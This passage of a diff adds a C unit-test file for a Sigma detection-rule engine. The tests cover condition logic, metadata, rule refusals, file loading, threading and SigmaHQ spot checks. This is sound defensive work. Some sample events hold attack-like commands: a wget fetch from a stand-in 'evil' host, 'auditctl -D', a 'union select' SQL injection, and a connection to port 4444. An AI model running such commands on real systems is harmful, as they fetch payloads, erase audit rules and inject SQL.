+    cs_ruleset_free(rs);
+    /* double negation, nested parentheses */
+    rs = load_ok(RULE(ABCD "  condition: not not ((a) and ((b or c)) and not d)\n"));
+    assert_true(mabc(rs, "ab"));
+    assert_true(mabc(rs, "ac"));
+    assert_false(mabc(rs, "abd"));
+    assert_false(mabc(rs, "a"));
+    cs_ruleset_free(rs);
+    /* a list of conditions is their OR */
+    rs = load_ok(RULE(ABCD "  condition:\n    - a and b\n    - c\n"));
+    assert_true(mabc(rs, "ab"));
+    assert_true(mabc(rs, "c"));
+    assert_false(mabc(rs, "a"));
+    cs_ruleset_free(rs);
+}
+
+static void test_condition_x_of(void **state)
+{
+    cs_ruleset *rs;
+    const char *det = "  selection_a:\n    a: 1\n  selection_b:\n    b: 1\n  _private:\n    c: 1\n"
+                      "  filter_d:\n    d: 1\n";
+    char buf[512];
+    (void)state;
+
+    snprintf(buf, sizeof buf, RULE("%s  condition: 1 of selection_*\n"), det);
+    rs = load_ok(buf);
+    assert_true(mabc(rs, "a"));
+    assert_true(mabc(rs, "b"));
+    assert_false(mabc(rs, "cd"));
+    cs_ruleset_free(rs);
+
+    snprintf(buf, sizeof buf, RULE("%s  condition: all of selection_* and not 1 of filter_*\n"), det);
+    rs = load_ok(buf);
+    assert_true(mabc(rs, "ab"));
+    assert_false(mabc(rs, "a"));
+    assert_false(mabc(rs, "abd"));
+    cs_ruleset_free(rs);
+
+    /* them leaves out _private */
+    snprintf(buf, sizeof buf, RULE("%s  condition: 1 of them\n"), det);
+    rs = load_ok(buf);
+    assert_false(mabc(rs, "c"));
+    assert_true(mabc(rs, "d"));
+    cs_ruleset_free(rs);
+    snprintf(buf, sizeof buf, RULE("%s  condition: all of them\n"), det);
+    rs = load_ok(buf);
+    assert_true(mabc(rs, "abd"));   /* c (in _private) not needed */
+    assert_false(mabc(rs, "abc"));
+    cs_ruleset_free(rs);
+
+    /* any of = 1 of; an explicit pattern may name _ identifiers; exact name as pattern */
+    snprintf(buf, sizeof buf, RULE("%s  condition: any of _priv* or all of filter_d\n"), det);
+    rs = load_ok(buf);
+    assert_true(mabc(rs, "c"));
+    assert_true(mabc(rs, "d"));
+    assert_false(mabc(rs, "ab"));
+    cs_ruleset_free(rs);
+
+    /* pattern with * in the middle, and not 1 of */
+    snprintf(buf, sizeof buf, RULE("%s  condition: not 1 of sel*_b\n"), det);
+    rs = load_ok(buf);
+    assert_false(mabc(rs, "b"));
+    assert_true(mabc(rs, "a"));
+    cs_ruleset_free(rs);
+}
+
+static void test_metadata_and_multidoc(void **state)
+{
+    const char *y = "title: First\n"
+                    "id: 11111111-2222-3333-4444-555555555555\n"
+                    "name: first_rule\n"
+                    "status: test\n"
+                    "description: |\n  two\n  lines\n"
+                    "author: Someone\n"
+                    "references:\n  - https://example.org/a\n  - https://example.org/b\n"
+                    "tags:\n  - attack.credential-access\n  - attack.t1110.001\n"
+                    "level: HIGH\n"
+                    "date: 2024-01-02\n"
+                    "falsepositives:\n  - admins\n"
+                    "fields:\n  - a\n"
+                    "custom_key:\n  nested: [1, 2]\n"
+                    "logsource:\n  product: linux\n  service: sshd\n"
+                    "detection:\n  s:\n    a: 1\n  condition: s\n"
+                    "---\n"
+                    "title: Correlation\n"
+                    "correlation:\n  type: event_count\n  rules: [first_rule]\n  timespan: 1m\n"
+                    "---\n"
+                    "title: Second\n"
+                    "logsource:\n  category: webserver\n"
+                    "detection:\n  s:\n    b: 1\n  condition: s\n"
+                    "---\n"
+                    "title: A filter\n"
+                    "filter:\n  rules: [first_rule]\n  s:\n    c: 1\n  condition: not s\n"
+                    "---\n";
+    cs_ruleset *rs = load_ok(y);
+    const cs_rule_info *in;
+    (void)state;
+    assert_int_equal(cs_ruleset_count(rs), 2);
+    in = cs_rule_get_info(cs_ruleset_rule(rs, 0));
+    assert_string_equal(in->title, "First");
+    assert_string_equal(in->id, "11111111-2222-3333-4444-555555555555");
+    assert_string_equal(in->name, "first_rule");
+    assert_string_equal(in->status, "test");
+    assert_string_equal(in->description, "two\nlines\n");
+    assert_string_equal(in->author, "Someone");
+    assert_string_equal(in->level, "high");
+    assert_int_equal(in->ntags, 2);
+    assert_string_equal(in->tags[1], "attack.t1110.001");
+    assert_int_equal(in->nreferences, 2);
+    assert_string_equal(in->references[0], "https://example.org/a");
+    assert_string_equal(in->product, "linux");
+    assert_string_equal(in->category, "");
+    assert_string_equal(in->service, "sshd");
+    assert_string_equal(in->path, "test.yml");
+    assert_int_equal(in->line, 1);
+    in = cs_rule_get_info(cs_ruleset_rule(rs, 1));
+    assert_string_equal(in->title, "Second");
+    assert_string_equal(in->id, "");
+    assert_string_equal(in->level, "");
+    assert_int_equal(in->ntags, 0);
+    assert_string_equal(in->category, "webserver");
+    assert_int_equal(in->line, 37);
+    assert_null(cs_ruleset_rule(rs, 2));
+
+    /* both match; cs_rule_match() tests one rule */
+    {
+        cs_event *ev = ev_str("b", "1", "a", "1", NULL);
+        assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 2);
+        assert_true(cs_rule_match(cs_ruleset_rule(rs, 0), ev));
+        cs_event_free(ev);
+        ev = ev_str("b", "1", NULL);
+        assert_false(cs_rule_match(cs_ruleset_rule(rs, 0), ev));
+        assert_true(cs_rule_match(cs_ruleset_rule(rs, 1), ev));
+        cs_event_free(ev);
+    }
+    cs_ruleset_free(rs);
+}
+
+static void collect_cb(const cs_rule *rule, const cs_event *ev, void *ud)
+{
+    const cs_rule **v = ud;
+    (void)ev;
+    while (*v != NULL) {
+        v++;
+    }
+    *v = rule;
+}
+
+static void test_match_callback_order(void **state)
+{
+    const char *y = RULE("  s:\n    a: 1\n  condition: s\n") "---\n" RULE("  s:\n    b: 1\n  condition: s\n")
+        "---\n" RULE("  s:\n    a: 1\n  condition: not s\n") "---\n" RULE("  s:\n    a|startswith: 1\n  condition: s\n");
+    cs_ruleset *rs = load_ok(y);
+    const cs_rule *got[8] = {0};
+    cs_event *ev = ev_str("a", "1", "b", "1", NULL);
+    (void)state;
+    assert_int_equal(cs_ruleset_count(rs), 4);
+    assert_int_equal(cs_ruleset_match(rs, ev, collect_cb, got), 3);
+    assert_ptr_equal(got[0], cs_ruleset_rule(rs, 0));
+    assert_ptr_equal(got[1], cs_ruleset_rule(rs, 1));
+    assert_ptr_equal(got[2], cs_ruleset_rule(rs, 3));
+    assert_null(got[3]);
+    cs_event_free(ev);
+    cs_ruleset_free(rs);
+}
+
+/* -------------------------------------------------------------- refusals -- */
+
+static void test_refusals(void **state)
+{
+    char big[80000];
+    size_t n;
+    (void)state;
+    /* line 7 is the first line after "detection:" (HEAD is 4 lines, detection: is line 5) */
+    load_refused(RULE("  s:\n    a|foo: x\n  condition: s\n"), 7, "unknown modifier 'foo' in field 'a|foo'");
+    load_refused(RULE("  s:\n    a|base64offset|contains: x\n  condition: s\n"), 7,
+                 "unsupported modifier 'base64offset'");
+    load_refused(RULE("  s:\n    a|windash: x\n  condition: s\n"), 7, "unsupported modifier 'windash'");
+    load_refused(RULE("  s:\n    a||contains: x\n  condition: s\n"), 7, "empty modifier");
+    load_refused(RULE("  s:\n    a|i: x\n  condition: s\n"), 7, "must follow 're'");
+    load_refused(RULE("  s:\n    a|re|contains: x\n  condition: s\n"), 7, "'re' cannot be combined");
+    load_refused(RULE("  s:\n    a|exists: maybe\n  condition: s\n"), 7, "true or false");
+    load_refused(RULE("  s:\n    a: 1\n  condition: s and nosuch\n"), 8, "unknown identifier 'nosuch'");
+    load_refused(RULE("  s:\n    a: 1\n  condition: s s\n"), 8, "unexpected 's'");
+    load_refused(RULE("  s:\n    a: 1\n  condition: (s\n"), 8, "')'");
+    load_refused(RULE("  s:\n    a: 1\n  condition: s and\n"), 8, "condition ends");
+    load_refused(RULE("  s:\n    a: 1\n  condition: selection | count() > 5\n"), 8, "aggregations");
+    load_refused(RULE("  s:\n    a: 1\n  condition: s | count() by b > 5\n"), 8, "aggregations");
+    load_refused(RULE("  s:\n    a: 1\n  condition: 1 of filter_*\n"), 8, "matches no detection");
+    load_refused(RULE("  _s:\n    a: 1\n  condition: all of them\n"), 8, "matches no detection");
+    load_refused(RULE("  s_1:\n    a: 1\n  condition: s_*\n"), 8, "needs '1 of'");
+    load_refused(RULE("  s:\n    a: 1\n  condition: ''\n"), 8, "condition");
+    load_refused(RULE("  s:\n    a: 1\n"), 5, "no 'condition'");
+    load_refused(HEAD "description: no detection\n", 1, "no 'detection'");
+    load_refused("logsource:\n  product: x\ndetection:\n  s:\n    a: 1\n  condition: s\n", 1, "no 'title'");
+    load_refused(RULE("  s:\n    a|re: '(unclosed'\n  condition: s\n"), 7, "bad regular expression");
+    load_refused(RULE("  s:\n    a|cidr: '10.0.0.0/33'\n  condition: s\n"), 7, "prefix length 33");
+    load_refused(RULE("  s:\n    a|cidr: 'ten/8'\n  condition: s\n"), 7, "bad address in CIDR");
+    load_refused(RULE("  s:\n    a: []\n  condition: s\n"), 7, "empty list");
+    load_refused(RULE("  s:\n    a:\n      b: c\n  condition: s\n"), 7, "mapping");
+    load_refused(RULE("  s:\n  condition: s\n"), 6, "is empty");
+    load_refused(HEAD "level: severe\ndetection:\n  s:\n    a: 1\n  condition: s\n", 5, "'level'");
+    load_refused(HEAD "tags: {a: b}\ndetection:\n  s:\n    a: 1\n  condition: s\n", 5, "'tags'");
+    load_refused("---\n- just\n- a list\n", 2, "must be a mapping");
+    /* YAML problems are refusals too, with their line */
+    load_refused(HEAD "x: &anchor foo\ny: *anchor\ndetection:\n  s:\n    a: 1\n  condition: s\n", 5,
+                 "anchors are not accepted");
+    load_refused(HEAD "detection:\n  s:\n    a: 1\n  s:\n    b: 2\n  condition: s\n", 8, "duplicate key");
+    load_refused(HEAD "detection:\n  s: [a, b\n", 7, "test.yml");
+
+    /* too deep a condition */
+    n = (size_t)snprintf(big, sizeof big, RULE("  s:\n    a: 1\n  condition: "));
+    for (int i = 0; i < CS_SIGMA_MAX_COND_DEPTH + 1; i++) {
+        n += (size_t)snprintf(big + n, sizeof big - n, "not ");
+    }
+    snprintf(big + n, sizeof big - n, "s\n");
+    load_refused(big, 8, "deeper than");
+    n = (size_t)snprintf(big, sizeof big, RULE("  s:\n    a: 1\n  condition: "));
+    for (int i = 0; i < CS_SIGMA_MAX_COND_DEPTH + 1; i++) {
+        big[n++] = '(';
+    }
+    snprintf(big + n, sizeof big - n, "s\n");
+    load_refused(big, 8, "deeper than");
+
+    /* too many values in one item */
+    n = (size_t)snprintf(big, sizeof big, RULE("  s:\n    a:\n"));
+    for (int i = 0; i < CS_SIGMA_MAX_VALUES + 1; i++) {
+        n += (size_t)snprintf(big + n, sizeof big - n, "      - %d\n", i);
+    }
+    snprintf(big + n, sizeof big - n, "  condition: s\n");
+    load_refused(big, 7, "at most 4096");
+}
+
+static void test_refusal_keeps_good_rules(void **state)
+{
+    const char *y = RULE("  s:\n    a: 1\n  condition: s\n") "---\n" RULE("  s:\n    a|nope: 1\n  condition: s\n")
+        "---\n" RULE("  s:\n    b: 1\n  condition: nosuch\n") "---\n" RULE("  s:\n    b: 1\n  condition: s\n");
+    cs_ruleset *rs = NULL;
+    errs e = {0};
+    cs_rc rc;
+    (void)state;
+    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
+    rc = cs_ruleset_load_string(rs, "test.yml", y, strlen(y), on_err, &e);
+    assert_int_equal(rc, CS_ERR_RULE);
+    assert_int_equal(e.n, 2);
+    assert_int_equal(cs_ruleset_count(rs), 2);
+    /* cs_err_msg() holds the first problem, the callback saw the last */
+    assert_non_null(strstr(cs_err_msg(), "test.yml:16: unknown modifier 'nope'"));
+    assert_non_null(strstr(e.last, "test.yml:26: unknown identifier 'nosuch'"));
+    /* a NULL callback is fine */
+    rc = cs_ruleset_load_string(rs, "again.yml", y, strlen(y), NULL, NULL);
+    assert_int_equal(rc, CS_ERR_RULE);
+    assert_int_equal(cs_ruleset_count(rs), 4);
+    cs_ruleset_free(rs);
+}
+
+/* A long flat or-chain must neither recurse deeply nor be refused. */
+static void test_long_chain(void **state)
+{
+    size_t cap = 200000;
+    char *y = malloc(cap);
+    size_t n;
+    cs_ruleset *rs;
+    (void)state;
+    assert_non_null(y);
+    n = (size_t)snprintf(y, cap, RULE("  s:\n    a: 1\n  t:\n    b: 1\n  condition: t"));
+    for (int i = 0; i < 20000; i++) {
+        n += (size_t)snprintf(y + n, cap - n, " or t");
+    }
+    snprintf(y + n, cap - n, " or s\n");
+    rs = load_ok(y);
+    assert_true(mabc(rs, "a"));
+    assert_false(mabc(rs, "c"));
+    cs_ruleset_free(rs);
+    free(y);
+}
+
+/* ----------------------------------------------------------------- files -- */
+
+static void write_file(const char *path, const char *text)
+{
+    FILE *fp = fopen(path, "w");
+    assert_non_null(fp);
+    fputs(text, fp);
+    fclose(fp);
+}
+
+static void test_load_path(void **state)
+{
+    char dir[] = "/tmp/test_sigma_XXXXXX";
+    char p[256];
+    cs_ruleset *rs = NULL;
+    errs e = {0};
+    cs_rc rc;
+    (void)state;
+    assert_non_null(mkdtemp(dir));
+    snprintf(p, sizeof p, "%s/sub", dir);
+    assert_int_equal(mkdir(p, 0700), 0);
+    snprintf(p, sizeof p, "%s/.hidden", dir);
+    assert_int_equal(mkdir(p, 0700), 0);
+    snprintf(p, sizeof p, "%s/b.yml", dir);
+    write_file(p, "title: B\ndetection:\n  s:\n    a: 1\n  condition: s\n");
+    snprintf(p, sizeof p, "%s/a.yaml", dir);
+    write_file(p, "title: A\ndetection:\n  s:\n    a: 1\n  condition: s\n");
+    snprintf(p, sizeof p, "%s/sub/c.yml", dir);
+    write_file(p, "title: C\ndetection:\n  s:\n    a: 1\n  condition: s\n");
+    snprintf(p, sizeof p, "%s/sub/bad.yml", dir);
+    write_file(p, "title: Bad\ndetection:\n  s:\n    a|nope: 1\n  condition: s\n");
+    snprintf(p, sizeof p, "%s/notes.txt", dir);
+    write_file(p, "not a rule\n");
+    snprintf(p, sizeof p, "%s/.hidden/h.yml", dir);
+    write_file(p, "title: H\ndetection:\n  s:\n    a: 1\n  condition: s\n");
+
+    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
+    rc = cs_ruleset_load_path(rs, dir, on_err, &e);
+    assert_int_equal(rc, CS_ERR_RULE);
+    assert_int_equal(e.n, 1);
+    assert_non_null(strstr(e.last, "/sub/bad.yml:4: unknown modifier 'nope'"));
+    assert_int_equal(cs_ruleset_count(rs), 3);
+    /* bytewise order per directory: a.yaml, b.yml, sub/c.yml */
+    assert_string_equal(cs_rule_get_info(cs_ruleset_rule(rs, 0))->title, "A");
+    assert_string_equal(cs_rule_get_info(cs_ruleset_rule(rs, 1))->title, "B");
+    assert_string_equal(cs_rule_get_info(cs_ruleset_rule(rs, 2))->title, "C");
+    assert_non_null(strstr(cs_rule_get_info(cs_ruleset_rule(rs, 2))->path, "/sub/c.yml"));
+
+    /* one file; a missing path */
+    snprintf(p, sizeof p, "%s/b.yml", dir);
+    assert_int_equal(cs_ruleset_load_path(rs, p, on_err, &e), CS_OK);
+    assert_int_equal(cs_ruleset_count(rs), 4);
+    snprintf(p, sizeof p, "%s/missing.yml", dir);
+    assert_int_equal(cs_ruleset_load_path(rs, p, on_err, &e), CS_ERR_IO);
+    assert_non_null(strstr(cs_err_msg(), "missing.yml"));
+    assert_int_equal(e.n, 1);
+    cs_ruleset_free(rs);
+
+    /* clean up */
+    snprintf(p, sizeof p, "rm -rf '%s'", dir);
+    assert_int_equal(system(p), 0);
+}
+
+/* ---------------------------------------------------------------- threads -- */
+
+typedef struct thr {
+    const cs_ruleset *rs;
+    size_t hits;
+} thr;
+
+static void *match_thread(void *arg)
+{
+    thr *t = arg;
+    cs_event *yes = ev_str("CommandLine", "wget -O /tmp/x http://evil", "message", "Failed password", NULL);
+    cs_event *no = ev_str("CommandLine", "wget -o /tmp/x", NULL);
+    for (int i = 0; i < 2000; i++) {
+        t->hits += cs_ruleset_match(t->rs, yes, NULL, NULL);
+        t->hits += cs_ruleset_match(t->rs, no, NULL, NULL);
+    }
+    cs_event_free(yes);
+    cs_event_free(no);
+    return NULL;
+}
+
+static void test_concurrent_match(void **state)
+{
+    const char *y = RULE("  s:\n    CommandLine|re: '\\s-O\\s'\n  condition: s\n") "---\n"
+        RULE("  k:\n    - 'failed password'\n  condition: k\n");
+    cs_ruleset *rs = load_ok(y);
+    pthread_t th[4];
+    thr t[4];
+    (void)state;
+    for (int i = 0; i < 4; i++) {
+        t[i].rs = rs;
+        t[i].hits = 0;
+        assert_int_equal(pthread_create(&th[i], NULL, match_thread, &t[i]), 0);
+    }
+    for (int i = 0; i < 4; i++) {
+        assert_int_equal(pthread_join(th[i], NULL), 0);
+        assert_int_equal(t[i].hits, 2000 * 2);
+    }
+    cs_ruleset_free(rs);
+}
+
+/* --------------------------------------------------------------- SigmaHQ -- */
+
+typedef struct hq {
+    int refused;
+    char *log;
+    size_t len;
+    size_t cap;
+} hq;
+
+static void hq_err(const char *msg, void *ud)
+{
+    hq *h = ud;
+    size_t ml = strlen(msg);
+    h->refused++;
+    if (h->len + ml + 2 > h->cap) {
+        size_t cap = (h->cap + ml + 2) * 2;
+        char *p = realloc(h->log, cap);
+        if (p == NULL) {
+            return;
+        }
+        h->log = p;
+        h->cap = cap;
+    }
+    memcpy(h->log + h->len, msg, ml);
+    h->log[h->len + ml] = '\n';
+    h->len += ml + 1;
+    h->log[h->len] = '\0';
+}
+
+static const cs_rule *find_rule(const cs_ruleset *rs, const char *id)
+{
+    for (size_t i = 0; i < cs_ruleset_count(rs); i++) {
+        if (strcmp(cs_rule_get_info(cs_ruleset_rule(rs, i))->id, id) == 0) {
+            return cs_ruleset_rule(rs, i);
+        }
+    }
+    printf("rule %s not found: its spot check is skipped\n", id);
+    return NULL;
+}
+
+/* Match one rule and free the event. */
+static bool rule_on(const cs_rule *r, cs_event *ev)
+{
+    bool hit = cs_rule_match(r, ev);
+    cs_event_free(ev);
+    return hit;
+}
+
+static void test_sigmahq_subset(void **state)
+{
+    static const char *const dirs[] = {"rules/linux", "rules/web", "rules/network"};
+    const char *base = getenv("CS_SHARED_DATA");
+    char path[1024];
+    struct stat sb;
+    cs_ruleset *rs = NULL;
+    hq h = {0};
+    size_t loaded;
+    (void)state;
+    if (base == NULL || base[0] == '\0') {
+        base = "/work/shared/data";
+    }
+    snprintf(path, sizeof path, "%s/sigma/rules", base);
+    if (stat(path, &sb) != 0) {
+        printf("SigmaHQ rules not found under %s (set CS_SHARED_DATA): skipped\n", path);
+        skip();
+    }
+    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
+    for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
+        cs_rc rc;
+        snprintf(path, sizeof path, "%s/sigma/%s", base, dirs[i]);
+        rc = cs_ruleset_load_path(rs, path, hq_err, &h);
+        assert_true(rc == CS_OK || rc == CS_ERR_RULE);
+    }
+    loaded = cs_ruleset_count(rs);
+    printf("SigmaHQ linux+web+network: %zu loaded, %d refused\n", loaded, h.refused);
+    if (h.refused > 0) {
+        printf("%s", h.log);
+    }
+    assert_true(loaded > 0);
+    assert_true(loaded * 10 >= (loaded + (size_t)h.refused) * 9);
+
+    /* spot checks on real rules (skipped if a rule is not in this copy of SigmaHQ) */
+    {
+        const cs_rule *r = find_rule(rs, "bed26dea-4525-47f4-b24a-76e30e44ffb0");   /* auditctl -D, re */
+        if (r != NULL) {
+            assert_true(rule_on(r, ev_str("Image", "/usr/sbin/auditctl", "CommandLine", "auditctl -D", NULL)));
+            assert_false(rule_on(r, ev_str("Image", "/usr/sbin/auditctl", "CommandLine", "auditctl -d", NULL)));
+        }
+        r = find_rule(rs, "5513deaf-f49a-46c2-a6c8-3f111b5cb453");   /* SQLi: keywords, not status 404 */
+        if (r != NULL) {
+            cs_event *ev = ev_str("cs-method", "GET", "message", "GET /p.php?id=1 union select 1,2 HTTP/1.1", NULL);
+            cs_event *ev2 = cs_event_clone(ev);
+            assert_int_equal(cs_event_add_int(&ev, fid("sc-status"), 200), CS_OK);
+            assert_int_equal(cs_event_add_int(&ev2, fid("sc-status"), 404), CS_OK);
+            assert_true(rule_on(r, ev));
+            assert_false(rule_on(r, ev2));
+            assert_false(rule_on(r, ev_str("cs-method", "POST", "message", "id=1 UNION SELECT 1", NULL)));
+        }
+        r = find_rule(rs, "1fc0809e-06bf-4de3-ad52-25e5263b7623");   /* zeek RDP: not + v4/v6 cidr */
+        if (r != NULL) {
+            assert_true(rule_on(r, ev_ip(fid("id.orig_h"), "8.8.8.8")));
+            assert_true(rule_on(r, ev_ip(fid("id.orig_h"), "2001:4860::1")));
+            assert_false(rule_on(r, ev_ip(fid("id.orig_h"), "172.31.0.1")));
+            assert_false(rule_on(r, ev_ip(fid("id.orig_h"), "fd00::1")));
+        }
+        r = find_rule(rs, "dbfc7c98-04ab-4ab7-aa94-c74d22aa7376");   /* callback ports: numbers + cidr */
+        if (r != NULL) {
+            cs_event *ev = ev_ip(fid("DestinationIp"), "203.0.113.5");
+            cs_event *ev2 = ev_ip(fid("DestinationIp"), "192.168.1.1");
+            assert_int_equal(cs_event_add_cstr(&ev, fid("Initiated"), "true"), CS_OK);
+            assert_int_equal(cs_event_add_int(&ev, fid("DestinationPort"), 4444), CS_OK);
+            assert_int_equal(cs_event_add_cstr(&ev2, fid("Initiated"), "true"), CS_OK);
+            assert_int_equal(cs_event_add_int(&ev2, fid("DestinationPort"), 4444), CS_OK);
+            assert_true(rule_on(r, ev));
+            assert_false(rule_on(r, ev2));
+        }
+        r = find_rule(rs, "c52a914f-3d8b-4b2a-bb75-b3991e75f8ba");   /* binary padding: |all keywords, nesting */
+        if (r != NULL) {
+            assert_true(rule_on(r, ev_str("type", "EXECVE", "message", "a0=truncate a1=-s a2=+5M", NULL)));
+            assert_true(rule_on(r, ev_str("type", "EXECVE", "message", "a0=dd a1=if=/dev/zero", NULL)));
+            assert_false(rule_on(r, ev_str("type", "EXECVE", "message", "a0=dd a1=if=/dev/zero a2=of=/x", NULL)));
+            assert_false(rule_on(r, ev_str("type", "SYSCALL", "message", "a0=truncate a1=-s", NULL)));
+        }
+    }
+    free(h.log);
+    cs_ruleset_free(rs);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_exact_case_folding),
+        cmocka_unit_test(test_wildcards),
+        cmocka_unit_test(test_escapes),
+        cmocka_unit_test(test_string_modifiers),
+        cmocka_unit_test(test_all_modifier),
+        cmocka_unit_test(test_keywords),
+        cmocka_unit_test(test_null_and_empty),
+        cmocka_unit_test(test_numbers_and_bools),
+        cmocka_unit_test(test_ip_fields),
+        cmocka_unit_test(test_regex),
+        cmocka_unit_test(test_cidr),
+        cmocka_unit_test(test_exists),
+        cmocka_unit_test(test_field_lists),
+        cmocka_unit_test(test_field_names),
+        cmocka_unit_test(test_list_of_maps),
+        cmocka_unit_test(test_condition_precedence),
+        cmocka_unit_test(test_condition_x_of),
+        cmocka_unit_test(test_metadata_and_multidoc),
+        cmocka_unit_test(test_match_callback_order),
+        cmocka_unit_test(test_refusals),
+        cmocka_unit_test(test_refusal_keeps_good_rules),
+        cmocka_unit_test(test_long_chain),
+        cmocka_unit_test(test_load_path),
+        cmocka_unit_test(test_concurrent_match),
+        cmocka_unit_test(test_sigmahq_subset),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
